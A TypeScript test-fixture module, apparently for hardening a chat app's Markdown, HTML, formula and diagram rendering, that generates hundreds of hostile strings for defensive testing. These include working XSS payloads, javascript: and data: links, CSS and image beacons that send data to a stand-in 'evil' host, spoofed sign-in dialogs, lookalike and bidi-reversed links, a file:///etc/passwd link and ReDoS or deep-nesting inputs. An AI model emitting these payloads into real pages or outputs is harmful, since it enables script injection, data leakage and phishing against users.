/** An answer that a hostile model, or a page that it read, would write. */
export type HostileText = readonly [name: string, text: string];

/** What each tries to run. A page in which it ran knows it. */
const run = 'window.pwned=1';
const image = (more: string) => `<img src=x ${more}>`;
const fence = (language: string, code: string) => `\`\`\`${language}\n${code}\n\`\`\``;

/** `evil`: the address of a server that nobody may ask anything. */
export function hostileTexts(evil: string): HostileText[] {
  return [
    ...hostileHtml(evil),
    ...links(evil),
    ...pictures(evil),
    ...formulas(evil),
    ...diagrams(evil),
    ...structures(evil),
    ...deceptions(evil),
    ...exhausting(),
  ].map(([name, text]) => [name, text] as const);
}

/** HTML of every kind that acts. Answers show it as text; pages of the hub are read as HTML. */
export function hostileHtml(evil: string): HostileText[] {
  const pieces = [
    `<script>${run}</script>`,
    `<script src="${evil}/a.js"></script>`,
    `<SCRIPT\n>${run}</SCRIPT\n>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    image(`onerror=${run}`),
    image(`onerror="${run}" //`),
    image(`OnErRoR\u000c=${run}`),
    `<img/src=x/onerror=${run}>`,
    `<svg onload=${run}>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
    `<svg><a xlink:href="javascript:${run}"><text y=20>click</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"></use></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></iframe></foreignObject></svg>`,
    `<svg><image href="${evil}/image"></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    `<math href="javascript:${run}">click</math>`,
    `<math><maction actiontype="statusline#${evil}" xlink:href="javascript:${run}">click</maction></math>`,
    `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
    `<iframe src="javascript:parent.pwned=1"></iframe>`,
    `<iframe src="${evil}/frame"></iframe>`,
    `<object data="${evil}/object"></object><embed src="${evil}/embed">`,
    `<body onload=${run}>`,
    `<details open ontoggle=${run}><summary>x</summary></details>`,
    `<input autofocus onfocus=${run}>`,
    `<video autoplay oncanplay=${run}><source src="${evil}/video" onerror=${run}></video>`,
    `<audio src="${evil}/audio" autoplay>`,
    `<marquee onstart=${run}>x</marquee>`,
    `<form action="${evil}/form"><button>Continue</button><input name=q value=secret></form>`,
    `<isindex type=image src=1 onerror=${run}>`,
    `<button formaction="javascript:${run}" popovertarget=x>x</button><div popover id=x onbeforetoggle=${run}>`,
    `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`,
    `<base href="${evil}/"><a href="x">x</a>`,
    `<link rel="stylesheet" href="${evil}/style.css"><link rel="prefetch" href="${evil}/prefetch">`,
    `<link rel="preconnect" href="${evil}"><link rel="dns-prefetch" href="//hostile.example">`,
    `<style>@import "${evil}/import.css"; * { background: url(${evil}/background) }</style>`,
    `<style>input[value^=a]{background:url(${evil}/letter-a)} @font-face{font-family:x;src:url(${evil}/font)} p::after{content:url(${evil}/content)}</style>`,
    `<p style="background:url(${evil}/style);position:fixed;inset:0">over everything</p>`,
    `<p style="background:u\\72l(${evil}/escaped);--x:url(${evil}/variable);background:var(--x)">x</p>`,
    `<p style="background:image-set('${evil}/set' 1x);cursor:url(${evil}/cursor),auto;list-style:url(${evil}/list)">x</p>`,
    `<div class="fixed inset-0 z-50 preview-large" popover=manual>Your session has ended</div>`,
    `<dialog open class="fixed">Sign in<form method=dialog action="${evil}/dialog"><input name=password></form></dialog>`,
    `<select><style><img src=x onerror=${run}></style></select><option><svg onload=${run}>`,
    `<svg><style><img src=x onerror=${run}></style></svg><math><mi><style><img src=x onerror=${run}></style></mi></math>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
    `<svg><set attributeName=href to=javascript:${run}></set><animate attributeName=href values=javascript:${run}></animate></svg>`,
    `<picture><source srcset="${evil}/srcset 1x"><img srcset="${evil}/picture 2x" src=x></picture>`,
    `<img src="${evil}/lazy" loading=eager fetchpriority=high decoding=sync crossorigin=use-credentials>`,
    `<input type=image src="${evil}/input" formaction="javascript:${run}"><input type=hidden name=csrf>`,
    `<applet code="${evil}/applet"></applet><frameset onload=${run}><frame src="${evil}/frameset"></frameset>`,
    `<bgsound src="${evil}/sound"><layer src="${evil}/layer"></layer><xml src="${evil}/xml">`,
    `<div style="width:expression(${run})">x</div>`,
    `<table background="${evil}/table"><td background="${evil}/cell">x</table>`,
    `<a href="${evil}" ping="${evil}/ping">x</a>`,
    `<img src='${evil}/dangling?`,
    `<textarea><img title="</textarea><img src=x onerror=${run}>">`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<template><script>${run}</script></template><template shadowrootmode=open><script>${run}</script></template>`,
    `<!--><img src=x onerror=${run}>-->`,
    `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
    `<?xml-stylesheet href="javascript:${run}"?>`,
    `<![CDATA[<img src=x onerror=${run}>]]>`,
    `<x contenteditable onblur=${run}>click</x><x onclick=${run} tabindex=1 style=position:fixed>click</x>`,
    `<a id=root name=app></a><form id=document><input name=cookie></form><img name=getElementById>`,
    `<portal src="${evil}/portal"></portal><fencedframe src="${evil}/fenced"></fencedframe>`,
    `<script type="speculationrules">{"prefetch":[{"urls":["${evil}/speculation"]}]}</script>`,
    `<script type="importmap">{"imports":{"x":"${evil}/x.js"}}</script><script type=module>import 'x'</script>`,
    `<custom-element onclick=${run} is=button>x</custom-element>`,
    `Text <b onmouseover=${run}>bold</b> and <a href=javascript:${run}>link</a>`,
    `<p>\n\n# Title in <em onclick=${run}>HTML</em>\n\n</p>`,
    `<details>\n<summary>x</summary>\n\n${image(`onerror=${run}`)}\n\n</details>`,
  ];
  return pieces.map((text, index) => [`HTML ${index + 1}`, text]);
}

function links(evil: string): HostileText[] {
  const targets = [
    `javascript:${run}`,
    `JaVaScRiPt:${run}`,
    `java\tscript:${run}`,
    `<java\tscript:${run}>`,
    `<java&NewLine;script:${run}>`,
    `\u0001javascript:${run}`,
    `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${run}`,
    `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${run}`,
    `javascript&colon;${run}`,
    `javascript&#58;${run}`,
    `javascript://%0a${run}`,
    `javascript:${run}//https://a.example`,
    `vbscript:${run}`,
    `data:text/html,<script>${run}</script>`,
    `data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==`,
    `data:image/svg+xml,<svg onload=${run}>`,
    `blob:${evil}/x`,
    `file:///etc/passwd`,
    `filesystem:${evil}/x`,
    `view-source:javascript:${run}`,
    `intent://x#Intent;scheme=javascript;end`,
    `app://paddock/`,
    `paddock://install?command=rm`,
    `ms-msdt:/id`,
    `\\\\hostile.example\\share`,
    `//hostile.example/x`,
    `https:javascript:${run}`,
    `#note-1`,
    `#source-99999`,
    `x" onmouseover="${run}`,
    `'onmouseover='${run}`,
    `__proto__`,
    `constructor`,
  ];
  return [
    ...targets.map((target, index): HostileText => [`link ${index + 1}`, `[click me](${target})`]),
    [
      'autolinks',
      `<javascript:${run}> <data:text/html,x> <vbscript:x> www.x.example" onclick=${run} javascript:${run}`,
    ],
    ['reference link', `[click][1]\n\n[1]: javascript:${run} "title" onclick=${run}`],
    ['reference link in pieces', `[a]: <javascript:${run}>\n\n[a] [a][] [b][a] ![a]`],
    ['link title', `[x](https://a.example "\\" onmouseover=${run} \\"")`],
    ['link in a link', `[a [b](javascript:${run}) c](https://a.example)`],
    ['picture in a link', `[![x](javascript:${run})](javascript:${run})`],
    [
      'names of objects',
      '[__proto__]: https://a.example\n[constructor]: https://b.example\n\n[__proto__] [constructor] [toString] [^__proto__] [^constructor]\n\n[^__proto__]: a\n[^constructor]: b',
    ],
    ['footnotes', `[^1] [^<img>]\n\n[^1]: <img src=x onerror=${run}> [x](javascript:${run})\n[^<img>]: x`],
  ];
}

function pictures(evil: string): HostileText[] {
  return [
    ['picture', `![x](${evil}/image.png)`],
    ['picture that tells', `![x](${evil}/${encodeURIComponent('what the person asked')})`],
    ['pictures by reference', `![x][p] ![p]\n\n[p]: ${evil}/reference.png`],
    ['picture without a scheme', `![x](//${evil.replace(/^https?:\/\//, '')}/scheme.png)`],
    ['picture with a script', `![x](javascript:${run})`],
    ['picture of a document', `![x](data:text/html,<script>${run}</script>)`],
    ['picture that runs', `![x](data:image/svg+xml,<svg/onload=${run}>)`],
    ['picture with more', `![x" onerror="${run}](x "y\\" onerror=${run}")`],
    ['picture of this app', '![x](/index.html) ![y](app://paddock/index.html) ![z](file:///etc/passwd)'],
    ['picture that stays open', `![x](${evil}/open.png`],
  ];
}

function formulas(evil: string): HostileText[] {
  const sources = [
    `\\href{javascript:${run}}{click}`,
    `\\url{javascript:${run}}`,
    `\\includegraphics{${evil}/formula.png}`,
    `\\htmlData{x=y}{z} \\htmlStyle{background:url(${evil}/style)}{z}`,
    `\\htmlId{root}{x} \\htmlClass{fixed inset-0}{x}`,
    `\\text{<img src=x onerror=${run}>}`,
    `\\unicode{<script>${run}</script>}`,
    `\\def\\a{\\a\\a}\\a`,
    `\\def\\a#1{\\a{#1#1}}\\a{x}`,
    `${'{ '.repeat(2500)}x${' }'.repeat(2500)}`,
    `${'\\left( '.repeat(700)}x${' \\right)'.repeat(700)}`,
    `\\rule{1000000em}{1000000em}`,
    `\\kern{1000000em} \\raisebox{-1000000em}{x}`,
    `\\color{red;background:url(${evil})}{x}`,
    `\\textcolor{"onmouseover=${run}}{x}`,
    `${'\\frac{'.repeat(300)}x${'}{y}'.repeat(300)}`,
    `${'{'.repeat(3000)}x${'}'.repeat(3000)}`,
    `\\begin{array}${'a&'.repeat(2000)}\\end{array}`,
    `\\sqrt{${'x^{'.repeat(500)}1${'}'.repeat(500)}}`,
  ];
  return sources.flatMap((source, index): HostileText[] => [
    [`formula ${index + 1}`, `$$\n${source}\n$$`],
    [`formula ${index + 1} in a line`, `So \\(${source}\\) it is.`],
  ]);
}

function diagrams(evil: string): HostileText[] {
  const sources = [
    `graph LR\n A --> B\n click A "javascript:${run}"`,
    `graph LR\n A --> B\n click A call ${run.replace('=', '(')})`,
    `graph LR\n A --> B\n click A href "${evil}/click" _self`,
    `graph LR\n A["<img src=x onerror=${run}>"] --> B["<script>${run}</script>"]`,
    `graph LR\n A["<img src='${evil}/label'>"]`,
    `%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph LR\n A["<img src=x onerror=${run}>"]`,
    `%%{init: {"themeCSS": "* { background: url(${evil}/theme) }"}}%%\ngraph LR\n A`,
    `%%{init: {"fontFamily": "x; } body { display: none } .x { background: url(${evil}/font)"}}%%\ngraph LR\n A`,
    `---\nconfig:\n  securityLevel: loose\n  themeCSS: "body{display:none}"\n---\ngraph LR\n A["<b onclick=${run}>x</b>"]`,
    `graph LR\n classDef x fill:url(${evil}/fill),background:url(${evil}/class);\n A:::x`,
    `graph LR\n style A fill:#fff,x:url(${evil}/fill)\n A`,
    `sequenceDiagram\n participant A as <img src=x onerror=${run}>\n A->>A: <iframe src="${evil}/sequence">\n link A: x @ javascript:${run}`,
    `sequenceDiagram\n participant A as #lt;img src=x onerror=${run}#gt;\n A->>A: &lt;img src=x onerror=${run}&gt; #60;svg onload=${run}#62;\n Note over A: #amp;lt;img src=x onerror=${run}#amp;gt;`,
    `classDiagram\n class A\n link A "javascript:${run}"\n callback A "${run}"`,
    `gantt\n section x\n a :a1, 2020-01-01, 1d\n click a1 href "javascript:${run}"`,
    `graph LR\n A@{ img: "${evil}/node.png", label: "x", h: 60 }`,
    `graph LR\n A["$$\\href{javascript:${run}}{x}$$"]`,
    `mindmap\n root((<img src=x onerror=${run}>))\n  ::icon(fa fa-book" onload="${run})`,
    `%%{init: {"__proto__": {"pwned": 1}, "constructor": {"prototype": {"pwned": 1}}}}%%\ngraph LR\n A`,
    `graph LR\n ${'A-->B\n'.repeat(5000)}`,
    `pie title ${'x'.repeat(30_000)}\n "a" : 1`,
    `graph LR\n ${Array.from({ length: 290 }, (_, index) => `n${index} --> n${(index * 7) % 290}`).join('\n ')}`,
    `graph LR\n ${Array.from({ length: 200 }, (_, index) => `subgraph s${index}`).join('\n ')}\n a\n${' end\n'.repeat(200)}`,
    `%%{init: {"flowchart": {"htmlLabels": true}, "maxEdges": 100000, "maxTextSize": 9999999}}%%\ngraph LR\n A["<img src='${evil}/directive'>"]`,
    `%%{init: {"themeVariables": {"primaryColor": "red;} svg{background:url(${evil}/variable)} .x{"}}}%%\ngraph LR\n A`,
    `stateDiagram-v2\n state "<img src=x onerror=${run}>" as s\n [*] --> s\n note right of s : <svg onload=${run}>`,
    `erDiagram\n A ||--o{ B : "<script>${run}</script>"\n A { string x "<img src='${evil}/er'>" }`,
    `journey\n title <img src=x onerror=${run}>\n section x\n a: 5: <b onclick=${run}>me</b>`,
    `architecture-beta\n group a(cloud)[<img src=x onerror=${run}>]\n service b(${evil}/icon)[B] in a`,
    `block-beta\n a["<img src='${evil}/block'>"] b["<iframe src='${evil}/block-frame'>"]`,
  ];
  return sources.map((source, index) => [`diagram ${index + 1}`, fence('mermaid', source)]);
}

function structures(evil: string): HostileText[] {
  return [
    ['fence with a language that acts', `\`\`\`js" onclick="${run}\nx\n\`\`\``],
    ['fence of an object', fence('__proto__', 'x') + '\n\n' + fence('constructor', 'x')],
    ['fence that closes HTML', fence('html', `</code></pre><script>${run}</script>`)],
    ['page in a fence that nobody opened', fence('html', `<script>parent.pwned=1</script><img src="${evil}/fence">`)],
    ['picture in a fence that nobody opened', fence('svg', `<svg onload=${run}><image href="${evil}/svg"/></svg>`)],
    [
      'table cells',
      `| <img src=x onerror=${run}> | [x](javascript:${run}) |\n| - | - |\n| ![x](${evil}/cell) | <script>${run}</script> |`,
    ],
    ['task list', `- [ ] <input type=image src=${evil}/task onerror=${run}>\n- [x" onclick=${run}] x`],
    ['alert', `> [!NOTE" onclick=${run}]\n> x\n\n> [!__proto__]\n> y`],
    ['heading', `# <a name=x onclick=${run}>x</a> {#id onclick=${run}}\n\nx {: onclick="${run}" }`],
    ['front matter', `---\nlayout: <script>${run}</script>\n---\n`],
    [
      'templates',
      `{{constructor.constructor('${run}')()}} \${${run}} #{${run}} <%= ${run} %> [[\${${run}}]] {% raw %}`,
    ],
    ['thinking that does not end', `<think><script>${run}</script>`],
    ['a directive', `::: {onclick=${run}}\nx\n:::\n\n:img{src=${evil}/directive}`],
    ['wiki link', `[[javascript:${run}]] ![[${evil}/wiki.png]]`],
    ['null characters', `<scr\u0000ipt>${run}</scr\u0000ipt> [x](java\u0000script:${run})`],
    ['lone surrogates', `\ud800 [\udfff](javascript:${run}) \`\`\`\ud800\nx\n\`\`\``],
    ['what is half open', `**_~~\`[![<a href="${evil}/half`],
  ];
}

function deceptions(evil: string): HostileText[] {
  return [
    ['text turned around', '\u202egpj.exe\u202c and [\u202emoc.knab\u202c](https://evil.example) \u2066\u2067x'],
    ['code turned around', fence('js', "if (level != 'user\u202e \u2066// only admins\u2069 \u2066') {")],
    ['another host', '[https://paypal.com/login](https://evil.example/login)'],
    ['another host among words', '[Sign in at https://paypal.com (safe)](https://evil.example/login)'],
    ['letters that look alike', '[аpple.com](https://xn--pple-43d.com/) <https://gооgle.com>'],
    ['a name before the host', '[bank](https://bank.example@evil.example/)'],
    ['a dot that is none', '[x](https://bank.example。evil.example/) [y](https://bank.example%2eevil.example)'],
    ['marks over the lines', `${'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334'.repeat(400)}`],
    ['a picture of a dialog', `![Your session has ended. Sign in](${evil}/dialog.png)`],
    ['wide characters', '﷽'.repeat(3000)],
  ];
}

/** What takes for ever where something is read carelessly. */
function exhausting(): HostileText[] {
  const repeated = (piece: string, times: number): HostileText => [
    `${times} times ${JSON.stringify(piece.slice(0, 12))}`,
    piece.repeat(times),
  ];
  return [
    repeated('> ', 20_000),
    repeated('- ', 20_000),
    repeated('[', 30_000),
    repeated('![', 20_000),
    repeated('[a](', 15_000),
    repeated('*a **b ', 8000),
    repeated('_', 30_000),
    repeated('*a_', 15_000),
    repeated('`', 40_001),
    repeated('``a', 15_000),
    repeated('<', 30_000),
    repeated('<a ', 15_000),
    repeated('<!--', 15_000),
    repeated('&#', 20_000),
    repeated('$', 30_000),
    repeated('$$a', 15_000),
    repeated('\\(', 15_000),
    repeated('\\[', 15_000),
    repeated('~~', 20_000),
    repeated('[^a]', 10_000),
    repeated('[^a]: ', 10_000),
    repeated('[a]: b\n', 5000),
    repeated('[1]', 15_000),
    repeated('http://', 10_000),
    repeated('a@', 15_000),
    repeated('www.', 15_000),
    repeated(' ', 100_000),
    repeated('\t', 50_000),
    repeated('\n', 50_000),
    repeated('a\n', 30_000),
    repeated('# ', 20_000),
    repeated('---\n', 10_000),
    repeated('===\n', 10_000),
    repeated('| a ', 10_000),
    ['a table of many columns', `${'|a'.repeat(2000)}\n${'|-'.repeat(2000)}\n${`${'|b'.repeat(2000)}\n`.repeat(3)}`],
    [
      'a table that is large both ways',
      `${'|a'.repeat(300)}\n${'|-'.repeat(300)}\n${`${'|b'.repeat(300)}\n`.repeat(150)}`,
    ],
    ['a table of many rows', `|a|b|\n|-|-|\n${'|x|y|\n'.repeat(4000)}`],
    ['lists in lists', Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n')],
    ['quotations in quotations', Array.from({ length: 300 }, (_, depth) => `${'>'.repeat(depth)} x`).join('\n')],
    ['emphasis in emphasis', `${'**a _b '.repeat(1000)}x${'_**'.repeat(1000)}`],
    ['one long word', 'x'.repeat(200_000)],
    ['one long line of code', fence('js', 'x+'.repeat(60_000))],
    ['code that grammars choke on', fence('js', `/${'(a+)+'.repeat(2000)}$/`)],
    ['strings that do not end', fence('python', '"""'.repeat(20_001))],
    ['brackets in code', fence('ts', '<'.repeat(20_000))],
    ['a heap of notes', Array.from({ length: 2000 }, (_, index) => `[^${index}]\n\n[^${index}]: x\n`).join('\n')],
  ];
}
